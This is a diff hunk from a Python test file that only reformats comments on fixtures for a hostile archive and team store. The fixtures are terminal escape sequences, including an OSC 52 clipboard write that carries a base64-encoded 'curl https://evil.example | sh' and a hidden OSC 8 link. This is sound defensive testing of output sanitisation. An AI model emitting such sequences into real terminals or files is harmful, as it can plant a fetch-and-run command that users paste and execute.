@@ -93,12 +93,12 @@ def test_the_shipped_keymaps_pass_the_checks(name):
 
 # --- a hostile archive and a hostile team store ------------------------------------------------------------
 
-OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl https://evil.example | sh\n").decode() + "\x07"   # clipboard write
-OSC8 = "\x1b]8;;https://evil.example/\x1b\\GGUS-1\x1b]8;;\x1b\\"                             # a hidden link
-CLEAR = "\x1b[2J\x1b[3J\x1b[H"                                                                  # screen clear
-LEAVE_ALT = "\x1b[?1049l"                                                                        # alternate screen off
-C1 = "\x9b2J\x9d0;title\x9c"                                                                     # 8-bit CSI, OSC, ST
-OTHER = "\x00\x07\x08\x7f\r\t\x0b"                                                              # NUL BEL BS DEL CR TAB VT
+OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl https://evil.example | sh\n").decode() + "\x07"  # clipboard
+OSC8 = "\x1b]8;;https://evil.example/\x1b\\GGUS-1\x1b]8;;\x1b\\"   # a hidden link
+CLEAR = "\x1b[2J\x1b[3J\x1b[H"                                      # screen clear
+LEAVE_ALT = "\x1b[?1049l"                                            # alternate screen off
+C1 = "\x9b2J\x9d0;title\x9c"                                         # 8-bit CSI, OSC, ST
+OTHER = "\x00\x07\x08\x7f\r\t\x0b"                                  # NUL BEL BS DEL CR TAB VT
 ALL = OSC52 + OSC8 + CLEAR + LEAVE_ALT + C1 + OTHER
 DAY = dt.date(2026, 11, 20)
 STAMP = "2026-11-20T08:00:00.000000+00:00"
